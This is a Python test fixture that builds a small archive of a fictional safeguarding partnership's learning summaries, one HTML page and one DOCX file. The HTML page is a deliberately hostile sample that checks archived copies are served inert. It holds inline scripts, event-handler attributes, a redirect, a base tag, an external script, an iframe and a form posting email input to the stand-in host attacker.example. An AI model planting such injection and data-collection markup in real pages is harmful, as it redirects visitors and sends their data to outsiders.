"""A small collection ingested from local files for the archived-copy views: a fictional
board's web page full of things that would run if served as it is, and a DOCX learning
summary. Built with the real ingest and index."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from harvester.ingest import ingest_paths
from scr.services import Services
from tests.documents import make_docx

PAGE_TITLE = "Child Q: learning summary - Westmere Safeguarding Children Partnership"
# Each of these would change the title or set a global if any of it ran.
HOSTILE_PAGE = f"""<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <meta http-equiv="refresh" content="0; url=https://attacker.example/">
  <base href="https://attacker.example/">
  <title>{PAGE_TITLE}</title>
  <script>document.title = "SCRIPT RAN"; window.scriptRan = true;</script>
  <script src="https://attacker.example/tracker.js"></script>
  <style>body {{ display: none; }}</style>
</head>
<body onload="window.scriptRan = true; document.title = 'ONLOAD RAN'">
  <nav><a href="/">Home</a> <a href="/reviews/">Case reviews</a></nav>
  <div id="cookie-banner">We use cookies.
    <button onclick="window.scriptRan = true">OK</button></div>
  <main id="main">
    <article>
      <h1>Child Q: learning summary</h1>
      <p>Westmere Safeguarding Children Partnership &middot; Published 3 March 2020</p>
      <img src="x" alt="Partnership logo"
        onerror="window.scriptRan = true; document.title = 'ONERROR RAN'">
      <svg onload="window.scriptRan = true"><circle r="4"></circle></svg>
      <iframe src="https://attacker.example/frame.html" title="frame"></iframe>
      <h2>What we learned</h2>
      <p onmouseover="window.scriptRan = true">Health visitors did not ask who else lived in the
      household, so the mother's new partner was never assessed before the baby's injuries.</p>
      <p>School nurses recorded each of Q's absences separately; no one saw that the absences
      followed the partner's return, and the concern was never escalated.</p>
      <p><a href="javascript:window.scriptRan = true">Read the full report</a> or
      <a href="reviews/child-q-overview.pdf">download it</a>.</p>
      <form action="https://attacker.example/collect" method="post">
        <input name="email" aria-label="Email"><button>Subscribe</button>
      </form>
      <object data="https://attacker.example/thing.swf"></object>
      <script>window.scriptRan = true;</script>
    </article>
  </main>
  <footer>Westmere footer</footer>
</body>
</html>
"""

DOCX_PARAGRAPHS = [
    ("Title", "Learning Summary: Baby N"),
    ("Normal", "Westmere Safeguarding Children Partnership, September 2021"),
    ("Heading 1", "What we learned"),
    (
        "List Bullet",
        "Bruising in a baby who is not yet crawling must always be referred to children's "
        "social care on the same day.",
    ),
    (
        "List Bullet",
        "The father's mental health was not asked about at any contact with the family.",
    ),
    ("Heading 1", "Recommendations"),
    (
        "Normal",
        "The partnership should audit how midwives and health visitors record who lives in "
        "the household.",
    ),
]


@dataclass(frozen=True)
class ArchiveCollection:
    data_dir: Path
    web_source: str
    docx_source: str


def build_archive_collection(folder: Path) -> ArchiveCollection:
    """Write the two files, ingest them and build the index, as `scr ingest` does."""
    files = folder / "files"
    files.mkdir(parents=True)
    web = files / "child-q-learning-summary.html"
    web.write_text(HOSTILE_PAGE, encoding="utf-8")
    word = files / "Baby N Learning Summary.docx"
    word.write_bytes(make_docx(DOCX_PARAGRAPHS))
    data_dir = folder / "data"
    with Services.for_data_dir(data_dir).harvest_session() as session:
        report = ingest_paths([files], session.catalog, session.store)
        assert report.added == 2, report
        session.sync(log=lambda _m: None)
    return ArchiveCollection(data_dir, web.resolve().as_uri(), word.resolve().as_uri())
